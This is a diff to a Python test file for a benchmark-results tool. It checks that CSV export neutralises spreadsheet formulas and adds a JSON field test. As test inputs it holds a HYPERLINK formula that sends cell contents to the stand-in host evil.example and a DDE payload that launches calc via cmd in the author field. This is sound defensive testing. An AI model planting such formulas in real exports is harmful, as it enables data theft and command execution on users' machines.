@@ -4,7 +4,10 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 import os
+
+import pytest
 
 from master import ingest
 from master.cli import csv_text, main
@@ -17,15 +20,22 @@ from tests.unit.test_store_ingest import put, result_for, run_ctx
 SUBJECT = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
-def test_formula_text_gets_a_quote_and_negative_samples_stay_numbers(tmp_path, monkeypatch, capsys):
+@pytest.fixture
+def farm(tmp_path, monkeypatch):
+    """A repository and the settings of a farm whose results DB is in tmp_path, as the environment names them."""
     repo = make_repo(tmp_path / "repo")
-    sha = hostile_commit(repo, SUBJECT, author="@SUM(1+1)*cmd|' /C calc'!A0")
     for k in [k for k in os.environ if k.startswith("PERFFARM_")]:
         monkeypatch.delenv(k)
     monkeypatch.setenv("PERFFARM_MASTER_DATA_DIR", str(tmp_path / "data"))
     monkeypatch.setenv("PERFFARM_REPOSITORY_URL", str(repo.path))
     settings = load_settings()
     settings.incoming_dir.mkdir(parents=True)
+    return repo, settings
+
+
+def test_formula_text_gets_a_quote_and_negative_samples_stay_numbers(farm, capsys):
+    repo, settings = farm
+    sha = hostile_commit(repo, SUBJECT, author="@SUM(1+1)*cmd|' /C calc'!A0")
     doc = result_for(sha, samples=(-1.5, 2, 1e-7))
     doc["workloads"][0]["metrics"][0]["unit"] = "+1 ops"
     doc["recipe"]["config_hash"] = "-2+3"
@@ -52,3 +62,22 @@ def test_csv_text_rules():
         assert csv_text(ok) == ok
     for number in (-1.5, -3, 0, 2.0):
         assert csv_text(number) == number
+
+
+RUN_FIELDS = [
+    "id", "sha", "ref", "builder", "worker", "machine_id", "recipe", "recipe_version", "config_hash", "status",
+    "source", "build_id", "build_url", "noisy", "started_at", "finished_at", "ingested_at", "subject", "author",
+]  # fmt: skip
+
+
+def test_the_json_listing_and_export_show_each_run_with_these_fields(farm, capsys):
+    """The JSON forms are read by scripts: a run's fields (its log is not among them; noisy is 0 or 1)."""
+    repo, settings = farm
+    ingest.ingest_file(settings, put(settings, result_for(repo.head())), run_ctx(1, repo.head()), "fixture")
+    capsys.readouterr()
+    assert main(["results", "list", "--format", "json"]) == 0
+    (listed,) = json.loads(capsys.readouterr().out)
+    assert main(["results", "export", "--format", "json"]) == 0
+    (exported,) = json.loads(capsys.readouterr().out)
+    assert sorted(listed) == sorted(RUN_FIELDS) and sorted(exported) == sorted([*RUN_FIELDS, "measurements"])
+    assert listed["noisy"] == 0 and listed["noisy"] is not False and listed["sha"] == repo.head()
